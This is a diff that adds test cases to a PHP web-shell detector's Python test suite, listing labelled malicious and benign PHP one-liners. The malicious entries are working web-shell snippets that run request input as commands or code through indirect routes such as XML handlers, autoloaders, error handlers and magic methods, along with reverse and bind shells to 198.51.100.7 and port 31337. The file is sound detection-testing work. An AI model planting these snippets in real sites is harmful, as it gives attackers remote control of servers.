@@ -579,6 +579,179 @@ MALICIOUS = [
         "<?php define('RUN_IT', 'pa' . 'ssthru'); if (!empty($_POST['t'])) { RUN_IT($_POST['t']); }",
         CMD,
     ),
+    (
+        "an XML character-data closure handed the parsed request body",
+        "<?php $x = xml_parser_create(); xml_set_character_data_handler($x, function ($p, $t) { system($t); });"
+        " xml_parse($x, '<r>' . $_POST['d'] . '</r>', true);",
+        CMD,
+    ),
+    (
+        "an XML handler named as a function of the file",
+        "<?php function pi_data($p, $target, $data) { eval($data); } $x = xml_parser_create();"
+        " xml_set_processing_instruction_handler($x, 'pi_data'); xml_parse($x, base64_decode($_COOKIE['k']));",
+        CODE,
+    ),
+    (
+        "XML element handlers named as methods after xml_set_object",
+        "<?php class F { public $b = ''; function o($p, $n, $a) { } function t($p, $s) { $this->b .= $s; }"
+        " function c($p, $n) { passthru($this->b); } function go($d) { $x = xml_parser_create();"
+        " xml_set_object($x, $this); xml_set_element_handler($x, 'o', 'c'); xml_set_character_data_handler($x, 't');"
+        " xml_parse($x, $d); } } (new F())->go(file_get_contents('php://input'));",
+        CMD,
+    ),
+    (
+        "a function name split between a constant array's key and value, joined by the walk callback",
+        "<?php function j($v, $k) { $f = $k . $v; $f($_POST['q']); } $a = array('sys' => 'tem'); array_walk($a, 'j');",
+        CMD,
+    ),
+    (
+        "a function name split between two constant arrays mapped together",
+        "<?php function j($v, $k) { $f = $k . $v; $f($_POST['q']); } array_map('j', array('ert'), array('ass'));",
+        CODE,
+    ),
+    (
+        "a first-class callable of a command function called later",
+        "<?php $run = shell_exec(...); $x = $_GET['c']; echo $run($x);",
+        CMD,
+    ),
+    (
+        "a first-class callable of a method of the file",
+        "<?php class R { static function go($c) { system($c); } } $f = R::go(...); $f($_POST['c']);",
+        CMD,
+    ),
+    (
+        "input carried through an SPL queue",
+        "<?php $q = new SplQueue(); $q->enqueue($_GET['c']); passthru($q->dequeue());",
+        CMD,
+    ),
+    (
+        "input carried through an SPL stack walked by foreach",
+        "<?php $s = new SplStack(); $s->push($_POST['c']); foreach ($s as $v) { eval($v); }",
+        CODE,
+    ),
+    (
+        "a property name from the request read through __get",
+        "<?php class M { function __get($n) { return shell_exec($n); } } $m = new M; echo $m->{$_GET['c']};",
+        CMD,
+    ),
+    (
+        "a method name from the request handled by __call",
+        "<?php class N { function __call($n, $a) { return system($n); } } $o = new N; $o->{$_GET['c']}();",
+        CMD,
+    ),
+    (
+        "code carried hex-encoded as the session cookie's value",
+        "<?php @eval(hex2bin(session_id(session_start())));",
+        CODE,
+    ),
+    (
+        "the request body copied into a script",
+        "<?php copy('php://input', __DIR__ . '/cache.php');",
+        WRITE,
+    ),
+    (
+        "input printed into a script through fprintf",
+        "<?php $h = fopen('conf.php', 'a'); fprintf($h, '%s', $_POST['c']);",
+        WRITE,
+    ),
+    (
+        "input written as a CSV field of a script",
+        "<?php $h = fopen('x.phtml', 'w'); fputcsv($h, array($_POST['c']));",
+        WRITE,
+    ),
+    (
+        "input written to a temporary file that is then given a script's name",
+        "<?php $t = tempnam('.', 'x'); file_put_contents($t, $_POST['c']); rename($t, $t . '.php');",
+        WRITE,
+    ),
+    (
+        "a command function registered as the autoloader, a class name from the request looked up",
+        "<?php spl_autoload_register('system'); class_exists($_GET['c']);",
+        CMD,
+    ),
+    (
+        "an autoloader closure running the class name it is given, for new $x",
+        "<?php spl_autoload_register(function ($n) { passthru($n); }); $x = $_POST['c']; new $x();",
+        CMD,
+    ),
+    (
+        "the request's text thrown in an exception and run by the exception handler",
+        "<?php set_exception_handler(function ($e) { system($e->getMessage()); }); throw new Exception($_GET['c']);",
+        CMD,
+    ),
+    (
+        "the request's text thrown and run in the catch clause",
+        "<?php class E extends Exception {} try { throw new E($_GET['c']); } catch (E $e) { eval($e->getMessage()); }",
+        CODE,
+    ),
+    (
+        "the request's text raised with trigger_error and run by the error handler",
+        "<?php set_error_handler(function ($no, $str) { system($str); }); trigger_error($_GET['c']);",
+        CMD,
+    ),
+    (
+        "a command function as the callback of a CallbackFilterIterator",
+        "<?php $a = new ArrayIterator([$_POST['c']]); $f = new CallbackFilterIterator($a, 'system'); foreach ($f as $x) {}",
+        CMD,
+    ),
+    (
+        "libxml's entity loader handed the posted document's entity addresses",
+        "<?php libxml_set_external_entity_loader(function ($p, $s, $c) { return shell_exec($s); });"
+        " $d = new DOMDocument(); $d->loadXML($_POST['x'], LIBXML_NOENT);",
+        CMD,
+    ),
+    (
+        "a closure holding a variable by reference, the variable set from the request afterwards",
+        "<?php $c = ''; $f = function () use (&$c) { system($c); }; $c = $_GET['x']; $f();",
+        CMD,
+    ),
+    (
+        "an array of request values cast to an object and read as a property",
+        "<?php $o = (object) ['n' => 'x', 'c' => $_GET['c']]; system($o->c);",
+        CMD,
+    ),
+    (
+        "input checked to be hex digits, then decoded and run",
+        "<?php $x = $_POST['x']; if (!ctype_xdigit($x)) { exit; } $c = hex2bin($x); echo shell_exec($c);",
+        CMD,
+    ),
+    (
+        "input checked against Base64's alphabet, then decoded and evaluated",
+        "<?php $x = $_POST['x']; if (preg_match('/^[A-Za-z0-9+\\/=]+$/', $x)) { eval(base64_decode($x)); }",
+        CODE,
+    ),
+    (
+        "code read from a connection to a fixed host",
+        "<?php $c = stream_socket_client('tcp://198.51.100.7:4444'); eval(stream_get_contents($c));",
+        CODE,
+    ),
+    (
+        "commands read from a socket_create()d socket once connected",
+        "<?php $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); socket_connect($s, '198.51.100.7', 9001);"
+        " while ($c = socket_read($s, 2048)) { socket_write($s, shell_exec($c)); }",
+        CMD,
+    ),
+    (
+        "commands from a client of the script's listening socket",
+        "<?php $srv = stream_socket_server('tcp://0.0.0.0:31337'); $k = stream_socket_accept($srv, -1);"
+        " socket_recv($k, $buf, 1024, 0); system($buf);",
+        CMD,
+    ),
+    (
+        "a request script written to a shell's standard input (proc_open pipes)",
+        "<?php $p = proc_open('/bin/sh', [['pipe', 'r'], ['pipe', 'w']], $io); fwrite($io[0], $_POST['s']);",
+        CMD,
+    ),
+    (
+        "a request script written to a shell opened with popen for writing",
+        "<?php $h = popen('bash -s', 'w'); fputs($h, $_GET['s']); pclose($h);",
+        CMD,
+    ),
+    (
+        "an XML handler the request names",
+        "<?php $x = xml_parser_create(); xml_set_default_handler($x, $_GET['h']); xml_parse($x, '<a>' . $_GET['d'] . '</a>');",
+        DYN,
+    ),
 ]
 
 
@@ -874,6 +1047,82 @@ BENIGN = [
         "a name cleaned in the branch that read it is the one passed to the command",
         "<?php if (isset($_GET['iface'])) { $i = $_GET['iface']; $i = preg_replace('/[^a-z0-9]/', '', $i);"
         " echo shell_exec('ip link show ' . $i); }",
+    ),
+    (
+        "XML handlers collecting the request body's titles, printed escaped",
+        "<?php class R { public $t = array(); function o($p, $n, $a) { } function c($p, $n) { }"
+        " function d($p, $s) { $this->t[] = trim($s); } } $r = new R(); $x = xml_parser_create();"
+        " xml_set_object($x, $r); xml_set_element_handler($x, 'o', 'c'); xml_set_character_data_handler($x, 'd');"
+        " xml_parse($x, file_get_contents('php://input')); foreach ($r->t as $s) { echo htmlspecialchars($s); }",
+    ),
+    (
+        "a first-class callable of a formatter applied to input",
+        "<?php $f = strtoupper(...); echo htmlspecialchars($f($_GET['c']));",
+    ),
+    (
+        "an SPL queue of request values printed escaped",
+        "<?php $q = new SplQueue(); $q->enqueue($_GET['n']); echo htmlspecialchars($q->dequeue());",
+    ),
+    (
+        "a settings object whose __get looks the requested key up",
+        "<?php class C { private $d = []; function __get($n) { return $this->d[$n] ?? ''; } } $c = new C;"
+        " echo htmlspecialchars($c->{$_GET['k']});",
+    ),
+    (
+        "the session id naming the session's own data file",
+        "<?php session_start(); $f = 'carts/' . session_id() . '.json'; file_put_contents($f, json_encode($_POST));"
+        " echo htmlspecialchars(session_id());",
+    ),
+    (
+        "a port number printed into a configuration script with %d",
+        "<?php $h = fopen(__DIR__ . '/config.php', 'w'); fprintf($h, \"<?php\\n\\$port = %d;\\n\", $_POST['port']);",
+    ),
+    (
+        "a count formatted with %d into a command line",
+        "<?php system(sprintf('ping -c %d 127.0.0.1', $_GET['n']));",
+    ),
+    (
+        "an autoloader including the file of a class the request names (class names hold no dots or slashes)",
+        "<?php spl_autoload_register(function ($n) { include __DIR__ . '/classes/' . $n . '.php'; });"
+        " $c = $_GET['module']; $o = new $c(); echo htmlspecialchars(get_class($o));",
+    ),
+    (
+        "an autoloader generating, loading and initialising the class a request names",
+        "<?php spl_autoload_register(function ($c) { if (strpos($c, 'Mock_') === 0) { eval(\"class $c {}\"); }"
+        " require __DIR__ . '/lib/' . $c . '.php'; call_user_func([$c, 'init']); $c::boot(); });"
+        " $t = $_GET['type']; $o = new $t();",
+    ),
+    (
+        "an exception message with the request's value, printed escaped and logged",
+        "<?php try { $n = (int) $_GET['n']; if ($n < 0) { throw new InvalidArgumentException('bad ' . $_GET['n']); } }"
+        " catch (Exception $e) { echo htmlspecialchars($e->getMessage()); error_log($e->getMessage()); }",
+    ),
+    (
+        "a closure counting into a variable held by reference; an array cast to an object, its request value escaped",
+        "<?php $n = 0; $inc = function () use (&$n) { $n++; }; $inc(); $o = (object) ['t' => 'x', 'l' => $_GET['l']];"
+        " echo htmlspecialchars($o->l); system('logger ' . (int) $n . ' ' . $o->t);",
+    ),
+    (
+        "a hex token naming a cached file, and an allow-listed value decoded",
+        "<?php $t = $_GET['t']; if (ctype_xdigit($t)) { include 'views/' . $t . '.php'; }"
+        " $m = $_GET['m']; if (in_array($m, ['bGlzdA==', 'dmlldw=='], true)) { eval('$v = ' . var_export(base64_decode($m), true) . ';'); }",
+    ),
+    (
+        "an SMTP session whose replies are logged and printed escaped",
+        "<?php $m = fsockopen('mail.example.org', 25); fwrite($m, 'MAIL FROM:<' . $_POST['f'] . \">\\r\\n\");"
+        " $r = fgets($m, 515); file_put_contents('logs/smtp.log', $r, FILE_APPEND); echo htmlspecialchars($r);",
+    ),
+    (
+        "a message written to sendmail's standard input",
+        "<?php $p = proc_open('/usr/sbin/sendmail -t', [['pipe', 'r']], $io); fwrite($io[0], $_POST['body']);",
+    ),
+    (
+        "a socket reply checked by a command-line worker",
+        "<?php if (PHP_SAPI !== 'cli') { exit; } $c = fsockopen('127.0.0.1', 6379); system(fgets($c));",
+    ),
+    (
+        "a command-function name given as an XML handler: it gets the parser first",
+        "<?php $x = xml_parser_create(); xml_set_default_handler($x, 'system'); xml_parse($x, $_POST['d']);",
     ),
 ]
 
@@ -1338,3 +1587,22 @@ def test_a_loop_over_command_function_names_with_fixed_commands_is_not_reported(
         " break; } } foreach (array('trim', 'strtolower') as $g) { $n = $g($_GET['n']); } echo htmlspecialchars($n);"
     )
     assert not analyse(code)
+
+
+@pytest.mark.parametrize(
+    ("fmt", "count", "expected"),
+    [
+        (b"ping -c %d 127.0.0.1", 1, []),
+        (b"%s and %d", 2, [0]),
+        (b"%2$s then %1$x", 2, [1]),
+        (b"100%% of %s", 1, [0]),
+        (b"%05.1f %'*10s", 2, [1]),
+        (b"%1\\$s", 1, None),  # a '%' no conversion reads: unknown
+    ],
+)
+def test_printf_formats_keep_only_text_conversions(
+    fmt: bytes, count: int, expected: list[int] | None
+) -> None:
+    from webhunt.detect.semantic.php_tables import format_string_args
+
+    assert format_string_args(fmt, count) == expected
